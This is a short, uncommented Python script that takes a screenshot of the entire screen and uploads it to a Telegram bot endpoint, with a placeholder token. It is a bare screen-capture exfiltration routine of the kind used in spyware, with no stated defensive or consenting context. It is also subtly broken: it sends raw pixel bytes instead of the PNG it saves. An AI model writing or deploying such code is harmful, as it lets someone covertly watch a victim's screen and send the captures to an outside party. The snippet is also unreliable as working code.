import io
import requests
from PIL import ImageGrab

picture = ImageGrab.grab()
out = io.BytesIO()
picture.save(out, "PNG")
requests.post("https://api.telegram.org/bot000:inert/sendPhoto", files={"photo": picture.tobytes()})
